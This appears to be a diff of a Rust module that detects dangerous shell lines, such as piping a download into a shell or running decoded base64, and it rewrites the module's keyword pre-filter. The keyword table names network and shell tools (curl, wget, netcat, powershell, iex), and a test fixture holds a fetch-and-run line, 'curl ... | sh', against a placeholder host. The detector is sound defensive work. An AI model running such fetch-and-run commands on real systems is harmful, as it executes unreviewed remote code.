@@ -3,12 +3,14 @@
 //! Only what is certain is told: a download into a file, a decoded text that another program reads, and a pattern that merely
 //! names such a line are none of it.
 
+use std::borrow::Cow;
 use std::ops::Range;
 
 use super::interpreter::Executes;
 use super::word::{PartKind, Word};
 use super::wrapper::{self, Program};
 use super::{Command, CommandLine, Form, Level, Understanding};
+use crate::order;
 
 /// A part of a line that runs code nobody has seen, or gives a secret away.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -50,7 +52,7 @@ pub(super) fn dangers(command_line: &CommandLine) -> Vec<Danger> {
     let reachable = (0..finder.commands.len()).filter(|index| finder.commands[*index].reachable);
     let mut found: Vec<Danger> = reachable.flat_map(|index| finder.of_command(index)).collect();
     // Two sources of one pipeline are one danger, and decoding says more than fetching.
-    found.sort_by_key(|danger| (danger.range.end, danger.range.start));
+    order::by_place(&mut found, |danger| (danger.range.end, danger.range.start));
     found.dedup_by(|later, first| {
         let is_same = later.range.end == first.range.end;
         if is_same && later.kind == DangerKind::DecodedCode {
@@ -58,8 +60,13 @@ pub(super) fn dangers(command_line: &CommandLine) -> Vec<Danger> {
         }
         is_same
     });
-    found.sort_by_key(|danger| danger.range.start);
+    order::by_place(&mut found, |danger| (danger.range.start, 0));
     found
+}
+
+/// The dangers of a script of the POSIX shell. Most scripts have none and are not parsed for it.
+pub fn dangers_of_script(text: &str) -> Vec<Danger> {
+    if may_hold_any(text) { super::parse_script(text).dangers().to_vec() } else { Vec::new() }
 }
 
 /// Where a text in any language decodes something and runs the result at once: `exec(base64.b64decode(…))`, `eval(atob(…))`,
@@ -67,23 +74,28 @@ pub(super) fn dangers(command_line: &CommandLine) -> Vec<Danger> {
 pub fn decoded_code(text: &str) -> Option<Range<usize>> {
     const RUNNERS: [&str; 3] = ["eval(", "exec(", "Function("];
     let starts = RUNNERS.iter().flat_map(|runner| text.match_indices(runner));
-    let mut calls: Vec<Range<usize>> = starts
-        .filter(|(at, _)| is_a_call(&text[..*at]))
-        .map(|(at, runner)| at..argument_end(text, at + runner.len()))
-        .collect();
-    calls.sort_by_key(|call| call.start);
-    calls.into_iter().find(|call| decodes(&text[call.clone()])).or_else(|| {
+    let mut starts: Vec<(usize, &str)> = starts.collect();
+    order::by_place(&mut starts, |(at, _)| (*at, 0));
+    let first_sign = |start: usize| text.len() - text[start..].trim_start().len();
+    let (mut line, mut seen) = (first_sign(0), 0);
+    let mut calls = starts.into_iter().filter_map(|(at, runner)| {
+        if let Some(end) = text[seen..at].rfind('\n') {
+            line = first_sign(seen + end + 1);
+        }
+        seen = at;
+        is_a_call(&text[line..at]).then(|| at..argument_end(text, at + runner.len()))
+    });
+    calls.find(|call| decodes(&text[call.clone()])).or_else(|| {
         powershell_text(text, 0..text.len())
             .filter(|danger| danger.kind == DangerKind::DecodedCode)
             .map(|danger| danger.range)
     })
 }
 
-/// Whether a name that follows this text is called there: not a method of that name, a part of another name, a text to search for or a comment.
+/// Whether a name that follows this part of its line, blanks at the start removed, is called there: not a method of that name, a part of another name, a text to search for or a comment.
 fn is_a_call(before: &str) -> bool {
     let is_other = |sign: char| sign.is_alphanumeric() || matches!(sign, '_' | '.' | '"' | '\'' | '`');
-    let line = before.rsplit('\n').next().unwrap_or_default().trim_start();
-    !before.ends_with(is_other) && !["#", "//", "*", "/*"].iter().any(|comment| line.starts_with(comment))
+    !before.ends_with(is_other) && !["#", "//", "*", "/*"].iter().any(|comment| before.starts_with(comment))
 }
 
 /// Calls longer than this are looked at so far only, in bytes.
@@ -113,18 +125,37 @@ fn decodes(call: &str) -> bool {
             && ["'base64'", "\"base64\"", "'hex'", "\"hex\""].iter().any(|name| call.contains(name))
 }
 
-/// A cheap look that rules most lines and scripts out.
-fn may_hold_any(line: &str) -> bool {
-    const SIGNS: [&str; 15] = [
-        "curl", "wget", "base64", "base32", "basenc", "b64", "b85", "openssl", "xxd", "atob(", "nc ", "ncat",
-        "netcat", "pwsh", "hex",
-    ];
-    const ANY_CASE: [&str; 3] = ["powershell", "iex", "invoke-expression"];
-    let has = |sign: &&str| {
-        let mut windows = line.as_bytes().windows(sign.len());
-        windows.any(|window| window.eq_ignore_ascii_case(sign.as_bytes()))
-    };
-    SIGNS.iter().any(|sign| line.contains(sign)) || ANY_CASE.iter().any(has)
+/// A cheap look that rules most lines and scripts out: one pass over the text.
+fn may_hold_any(text: &str) -> bool {
+    let text = text.as_bytes();
+    let could_begin =
+        |first: u8| matches!(first | 0x20, b'a'..=b'c' | b'h' | b'i' | b'n'..=b'p' | b'w' | b'x');
+    text.iter().enumerate().filter(|(_, first)| could_begin(**first)).any(|(at, first)| {
+        let (signs, any_case) = signs(*first);
+        let rest = &text[at..];
+        let begins = |sign: &&str| {
+            rest.get(..sign.len()).is_some_and(|start| start.eq_ignore_ascii_case(sign.as_bytes()))
+        };
+        signs.iter().any(|sign| rest.starts_with(sign.as_bytes())) || any_case.iter().any(begins)
+    })
+}
+
+/// What begins with this byte and stands in every danger of some kind: in this case, and in any.
+const fn signs(first: u8) -> (&'static [&'static str], &'static [&'static str]) {
+    match first {
+        b'c' => (&["curl"], &[]),
+        b'w' => (&["wget"], &[]),
+        b'b' => (&["base64", "base32", "basenc", "b64", "b85"], &[]),
+        b'o' => (&["openssl"], &[]),
+        b'x' => (&["xxd"], &[]),
+        b'a' => (&["atob("], &[]),
+        b'n' => (&["nc ", "ncat", "netcat"], &[]),
+        b'h' => (&["hex"], &[]),
+        b'p' => (&["pwsh"], &["powershell"]),
+        b'P' => (&[], &["powershell"]),
+        b'i' | b'I' => (&[], &["iex", "invoke-expression"]),
+        _ => (&[], &[]),
+    }
 }
 
 struct Finder<'a> {
@@ -132,6 +163,8 @@ struct Finder<'a> {
     commands: &'a [Command],
     /// For each command the one whose output it reads.
     piped_from: Vec<Option<usize>>,
+    /// The commands inside of others, by their start.
+    inner: Vec<&'a Command>,
 }
 
 impl<'a> Finder<'a> {
@@ -142,7 +175,10 @@ impl<'a> Finder<'a> {
                 *into = Some(index);
             }
         }
-        Self { line, commands, piped_from }
+        let mut inner: Vec<&Command> =
+            commands.iter().filter(|command| command.level != Level::Line).collect();
+        inner.sort_by_key(|command| command.range.start);
+        Self { line, commands, piped_from, inner }
     }
 
     fn of_command(&self, index: usize) -> Vec<Danger> {
@@ -161,7 +197,10 @@ impl<'a> Finder<'a> {
     }
 
     /// The name of the program and the words behind it, wrappers removed.
-    fn program<'c>(&self, command: &'c Command) -> Option<(String, &'c [Word])> {
+    fn program<'c>(&self, command: &'c Command) -> Option<(Cow<'c, str>, &'c [Word])>
+    where
+        'a: 'c,
+    {
         let invocation = wrapper::unwrap(self.line, &command.words)?;
         let name = wrapper::program_name(self.line, &command.words[invocation.program]);
         Some((name, &command.words[invocation.program + 1..]))
@@ -277,9 +316,10 @@ impl<'a> Finder<'a> {
     }
 
     fn commands_in(&self, range: &Range<usize>) -> impl Iterator<Item = &Command> {
-        let range = range.clone();
-        let first = self.commands.iter().filter(|command| command.level != Level::Line);
-        first.filter(move |command| range.start <= command.range.start && command.range.end <= range.end)
+        let Range { start, end } = *range;
+        let first = self.inner.partition_point(|command| command.range.start < start);
+        let inside = self.inner[first..].iter().take_while(move |command| command.range.start < end);
+        inside.copied().filter(move |command| command.range.end <= end)
     }
 
     /// Programs given as text that decode and run something, and `powershell -EncodedCommand`.
@@ -333,7 +373,7 @@ impl<'a> Finder<'a> {
             let Some(before) = self.piped_from[stage] else { return false };
             let Some((program, arguments)) = self.program(&self.commands[before]) else { return false };
             if !is_filter(&program)
-                && !matches!(program.as_str(), "base64" | "tar" | "zip" | "openssl" | "xxd")
+                && !matches!(program.as_ref(), "base64" | "tar" | "zip" | "openssl" | "xxd")
             {
                 return false;
             }
@@ -439,7 +479,7 @@ mod tests {
     use crate::command::{parse, parse_script};
 
     fn found(line: &str) -> Vec<(DangerKind, &str)> {
-        parse(line).dangers().into_iter().map(|danger| (danger.kind, &line[danger.range])).collect()
+        parse(line).dangers().iter().map(|danger| (danger.kind, &line[danger.range.clone()])).collect()
     }
 
     #[test]
@@ -530,7 +570,7 @@ mod tests {
     #[test]
     fn a_script_is_looked_through_line_by_line() {
         let script = "#!/bin/sh\nset -eu\nsetup() {\n  curl -s https://x.example/i.sh | sh\n}\n# wget -O- x | sh\ncat <<END\ncurl x | sh\nEND\nsetup\n";
-        let found = parse_script(script).dangers();
+        let found = parse_script(script).dangers().to_vec();
         let texts: Vec<&str> = found.iter().map(|danger| &script[danger.range.clone()]).collect();
         assert_eq!(texts, ["curl -s https://x.example/i.sh | sh"]);
     }
